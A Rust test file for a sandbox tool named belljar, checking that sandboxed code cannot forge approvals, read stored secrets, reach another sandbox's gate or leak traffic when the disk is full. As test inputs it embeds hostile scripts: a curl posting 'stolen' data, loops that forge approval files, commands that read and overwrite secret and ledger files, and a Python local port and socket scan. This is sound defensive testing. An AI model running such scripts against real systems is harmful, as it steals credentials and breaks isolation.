//! What belljar keeps, wanted by code inside: answers, secrets, the record, another sandbox's gate; and a record that is full.

use std::fs;
use std::io::{BufRead, BufReader, Write};
use std::path::Path;
use std::process::{Command, Stdio};
use std::time::{Duration, Instant};

use belljar_testkit::Who;
use belljar_testkit::contestant::belljar;
use belljar_testkit::twice::{self, Check};
use libtest_mimic::Trial;

use crate::attacks::{in_the_open, same};
use crate::namespace;
use crate::told;
use crate::world::{NAME, OTHER, World};

pub const ALL: &[(&str, Check)] = &[
    ("code_inside_answers_no_question_of_its_own", forged),
    ("code_inside_sees_nothing_of_what_belljar_keeps", kept),
    ("a_sandbox_uses_no_gate_of_another", sibling),
];

/// It takes a disk of its own.
pub fn full_disk_trials() -> Vec<Trial> {
    let trial = |who| {
        let why = namespace::why_not().or(twice::why_not(who));
        twice::trial("nothing_goes_out_when_the_record_has_no_room", who, why, move || full(who))
    };
    [Who::Root, Who::Ordinary].map(trial).into()
}

/// Of the user whom belljar runs as.
fn places(world: &World) -> [String; 3] {
    let home = &world.desk.home;
    [home.join(".local/state/belljar"), world.desk.project.state.join("belljar"), home.join(".config/belljar")]
        .map(|path| path.display().to_string())
}

fn forged(who: Who) -> Result<(), String> {
    let world = World::of(who)?;
    world.reads("download", "4s")?;
    // belljar itself, in the hands of code inside.
    let own = world.desk.project.work.join("belljar");
    told(fs::copy(belljar(), &own))?;
    told(world.desk.project.give(&own))?;
    let url = world.url("/echo");
    let post = format!("curl -sS -m 60 -o /dev/null -w '%{{http_code}}' -d stolen {url}");
    let attack = format!(
        r#"
{post} > code & curl=$!
while kill -0 $curl 2>/dev/null; do
    ./belljar approve list --json > list 2>/dev/null && ids=$(grep -o '"id":"[0-9a-f]*"' list | cut -d'"' -f4)
    for id in last $ids; do ./belljar approve $id --yes > /dev/null 2>&1; ./belljar approve $id --session --yes > /dev/null 2>&1; done
    for place in {places}; do
        for name in approvals approvals/sessions; do
            mkdir -p "$place/$name" 2>/dev/null
            for id in x $ids; do
                for end in answer yes json; do echo '{{"decision":"once"}}' > "$place/$name/$id.$end"; done
            done
        done
    done 2>/dev/null
done
cat code
"#,
        places = places(&world).join(" ")
    );
    let said = world.run(&[], &["sh", "-c", &attack])?;
    let out = String::from_utf8_lossy(&said.out).into_owned();
    same((out.ends_with("403"), world.arrived()?.len()), (true, 0), &said)?;
    // Nor where somebody would grant those places.
    for place in places(&world).iter().chain([&world.desk.home.display().to_string()]) {
        let said = world.run(&[&format!("--write={place}")], &["sh", "-c", &attack])?;
        let out = String::from_utf8_lossy(&said.out).into_owned();
        same((out.contains("200"), world.arrived()?.len()), (false, 0), &said)?;
    }
    for place in places(&world) {
        let forged = told(Command::new("find").arg(&place).args(["-name", "x.*"]).output())?;
        same(String::from_utf8_lossy(&forged.stdout).into_owned(), String::new(), &place)?;
    }
    // The same, answered by a person outside.
    world.reads("download", "60s")?;
    let mut child = told(world.command(&[], &["sh", "-c", &post]).stdout(Stdio::piped()).spawn())?;
    let until = Instant::now() + Duration::from_secs(60);
    while told(child.try_wait())?.is_none() && Instant::now() < until {
        let list = world.desk.project.json(["approve", "list", "--json"])?;
        for one in list["parked"].as_array().into_iter().flatten() {
            let (id, digest) = (one["id"].as_str().unwrap_or_default(), one["digest"].as_str().unwrap_or_default());
            world.desk.expect(&["approve", id, "--once", "--yes", "--digest", &digest[..12]], 0, "")?;
        }
    }
    let done = told(child.wait_with_output())?;
    same((String::from_utf8_lossy(&done.stdout).as_ref(), world.arrived()?.len()), ("200", 1), "answered outside")
}

const VALUE: &str = "octopus-behind-the-stove-3141";

fn kept(who: Who) -> Result<(), String> {
    let world = World::of(who)?;
    let host = format!("{NAME}:{}", world.https);
    let mut set = world.desk.project.command(["secret", "set", "API_TOKEN", "--host", &host]);
    let mut child = told(set.stdin(Stdio::piped()).stdout(Stdio::null()).spawn())?;
    told(child.stdin.take().ok_or("it has an input")?.write_all(VALUE.as_bytes()))?;
    same(told(child.wait())?.success(), true, "the secret is kept")?;
    let folder = world.desk.home.join("plain");
    let plain = folder.join("words");
    told(fs::create_dir(&folder))?;
    told(fs::write(&plain, "plain words"))?;
    told(world.desk.project.give(&folder))?;
    told(world.desk.project.give(&plain))?;
    let script = format!(
        r#"
cat {plain}
for place in {places} /proc/1/root/{first} /proc/self/cwd/../.local/state/belljar; do
    ls -laR "$place" 2>/dev/null; cat "$place"/secrets/* "$place"/ledger/* "$place"/monitor/* "$place"/*.sqlite 2>/dev/null
    echo spoiled > "$place/secrets/key"; echo spoiled > "$place/ledger/spoiled"
done 2>/dev/null
find / \( -name '*.secret' -o -name 'belljar-gate*' -o -path '*/ledger/*' \) -not -path '/proc/*' 2>/dev/null
env
true
"#,
        plain = plain.display(),
        places = places(&world).join(" "),
        first = places(&world)[0].trim_start_matches('/'),
    );
    let open = world.open();
    let mut flags: Vec<String> = open.clone();
    flags.push("--secret=API_TOKEN".to_owned());
    let mut granted = vec![world.desk.home.display().to_string(), world.desk.home.join(".local").display().to_string()];
    granted.extend(
        places(&world).iter().flat_map(|place| [place.clone(), format!("{place}/secrets"), format!("{place}/ledger")]),
    );
    let own = format!("--read={}", folder.display());
    let others = granted.iter().flat_map(|place| [format!("--read={place}"), format!("--write={place}")]);
    for grant in [String::new()].into_iter().chain(others) {
        let all = flags.iter().map(String::as_str).chain([own.as_str(), grant.as_str()]);
        let all: Vec<&str> = all.filter(|flag| !flag.is_empty()).collect();
        let said = world.run(&all, &["sh", "-c", &script])?;
        let out = String::from_utf8_lossy(&said.out).into_owned();
        for part in [VALUE, "API_TOKEN.secret", "ledger/", "segment", "monitor/"] {
            same(out.contains(part), false, (part, &said))?;
        }
        // It is refused, or there is nothing to see; what is granted beside it is there.
        let fine = out.contains("plain words") || matches!(said.code, Some(123 | 125)) && out.is_empty();
        same((fine, grant.is_empty() && !out.contains("plain words")), (true, false), (&grant, &said))?;
    }
    // All of it is as it was, and works.
    world.desk.expect(&["ledger", "verify"], 0, "")?;
    let flags: Vec<&str> = flags.iter().map(String::as_str).collect();
    let use_it = format!("curl -sS -m 20 -H \"Authorization: Bearer $API_TOKEN\" {}", world.url("/echo"));
    world.expect(&flags, &["sh", "-c", &use_it], 0, "authorization")?;
    let sent = world.arrived()?.pop().ok_or("nothing arrived")?;
    same(sent["headers"]["authorization"].as_str(), Some(format!("Bearer {VALUE}").as_str()), &sent)
}

fn sibling(who: Who) -> Result<(), String> {
    let world = World::of(who)?;
    let open = world.open();
    let open: Vec<&str> = open.iter().map(String::as_str).collect();
    let get = format!("curl -sS -m 20 http://{NAME}:{}/echo?first; echo; echo ready; read end", world.http);
    let mut command = world.command(&open, &["sh", "-c", &get]);
    let mut first = told(command.stdin(Stdio::piped()).stdout(Stdio::piped()).spawn())?;
    let mut lines = BufReader::new(first.stdout.take().ok_or("it has an output")?).lines();
    let ready = lines.by_ref().map_while(Result::ok).any(|line| line == "ready");
    let script = format!(
        r#"
import os, socket
request = b"GET /echo?second HTTP/1.1\r\nHost: {NAME}:{http}\r\nConnection: close\r\n\r\n"
def tries(family, address):
    try:
        s = socket.socket(family, socket.SOCK_STREAM)
        s.settimeout(2)
        s.connect(address)
        s.sendall(request)
        print(address, s.recv(100))
    except OSError as error:
        pass
# What stands for its names there, and whatever listens here.
for last in range(8):
    for port in ({http}, {https}, {raw}):
        for host in ("198.18.0.%d" % last, "198.18.1.%d" % last, "127.0.0.%d" % last):
            tries(socket.AF_INET, (host, port))
        tries(socket.AF_INET6, ("fd62:656c:6c6a::%x" % last, port))
listening = set()
for name in ("tcp", "tcp6"):
    for line in open("/proc/net/" + name).read().splitlines()[1:]:
        listening.add(int(line.split()[1].split(":")[1], 16))
for port in listening:
    tries(socket.AF_INET, ("127.0.0.1", port))
for line in open("/proc/net/unix").read().splitlines()[1:]:
    parts = line.split()
    if len(parts) > 7:
        tries(socket.AF_UNIX, "\0" + parts[7][1:] if parts[7].startswith("@") else parts[7])
for pid in filter(str.isdigit, os.listdir("/proc")):
    try:
        print(pid, open("/proc/%s/comm" % pid).read().strip())
    except OSError:
        pass
print("tried")
"#,
        http = world.http,
        https = world.https,
        raw = world.raw,
    );
    // Without a gate, and with one of its own for something else.
    let own = [format!("--allow-net={OTHER}:{}", world.raw), "--allow-net=localhost:9".to_owned()];
    for flags in [&[][..], &[own[0].as_str(), own[1].as_str()][..]] {
        let said = world.expect(flags, &["/usr/bin/python3", "-c", &script], 0, "tried")?;
        let out = String::from_utf8_lossy(&said.out).into_owned();
        same((out.contains("HTTP/1.1 200"), out.contains("belljar-gate")), (false, false), &said)?;
    }
    drop(first.stdin.take());
    told(first.wait())?;
    let arrived: Vec<String> =
        world.arrived()?.iter().map(|one| one["path"].as_str().unwrap_or("raw").to_owned()).collect();
    same((ready, arrived), (true, vec!["/echo?first".to_owned()]), "only the first got there")?;
    let said = in_the_open(&world, &[], &["curl", "-sS", "-m", "20", &format!("http://{NAME}:{}/echo", world.http)])?;
    same(said.code, Some(0), &said)
}

fn full(who: Who) -> Result<(), String> {
    let world = World::of(who)?;
    let state = world.desk.home.join(".local/state/belljar");
    let mut part = world.desk.home.clone();
    for name in [".local", "state", "belljar"] {
        part = part.join(name);
        told(fs::create_dir_all(&part))?;
        told(world.desk.project.give(&part))?;
    }
    let open = world.open();
    let open: Vec<&str> = open.iter().map(String::as_str).collect();
    let url = format!("http://{NAME}:{}/echo", world.http);
    let get = format!("curl -sS -m 20 -o /dev/null -w '%{{http_code}}\\n' {url}");
    let plain = world.command(
        &open,
        &["sh", "-c", &format!("{get}?1; read go; for i in $(seq 2 30); do {get}?$i || echo no; done")],
    );
    let mount = "mount -t tmpfs -o size=4m,mode=700,uid=$1 tmpfs \"$2\" && shift 2 && exec \"$@\"";
    let mut command = Command::new("unshare");
    command.args(["--mount", "--propagation", "private", "sh", "-c", mount, "sh"]);
    command.arg(world.desk.project.who.user_id().to_string()).arg(&state);
    command.arg(plain.get_program()).args(plain.get_args()).env_clear();
    command.envs(plain.get_envs().filter_map(|(name, value)| Some((name, value?))));
    command.current_dir(&world.desk.project.work);
    let mut child = told(command.stdin(Stdio::piped()).stdout(Stdio::piped()).stderr(Stdio::piped()).spawn())?;
    let mut lines = BufReader::new(child.stdout.take().ok_or("it has an output")?).lines();
    let first = lines.next().and_then(Result::ok);
    // As belljar itself sees it.
    let seen =
        Path::new("/proc").join(child.id().to_string()).join("root").join(state.strip_prefix("/").unwrap_or(&state));
    fill(&seen.join("filler"))?;
    told(child.stdin.take().ok_or("it has an input")?.write_all(b"go\n"))?;
    let rest: Vec<String> = lines.map_while(Result::ok).collect();
    let done = told(child.wait_with_output())?;
    let error = String::from_utf8_lossy(&done.stderr).into_owned();
    let arrived: Vec<String> =
        world.arrived()?.iter().map(|one| one["path"].as_str().unwrap_or("raw").to_owned()).collect();
    same((first.as_deref(), arrived.first().map(String::as_str)), (Some("200"), Some("/echo?1")), (&rest, &error))?;
    // In what was begun of the disk, some entries still fit. From the first that does not on, nothing goes out.
    let went = rest.iter().take_while(|line| *line == "200").count();
    let later = rest.iter().skip(went).any(|line| line == "200");
    same((went < 20, later, arrived.len() <= 2 + went), (true, false, true), (&rest, &arrived, &error))?;
    same(error.contains("its way out was lost"), true, &error)
}

/// Until nothing fits any more.
fn fill(path: &Path) -> Result<(), String> {
    let mut file = told(fs::File::create(path))?;
    for size in [1 << 16, 1 << 12, 1] {
        let piece = vec![0u8; size];
        let mut left = 1 << 30;
        while left > 0 {
            match file.write(&piece) {
                Ok(count) => left -= count,
                Err(error) if error.raw_os_error() == Some(28) => break,
                Err(error) => return Err(format!("cannot fill {}: {error}", path.display())),
            }
        }
    }
    Ok(())
}
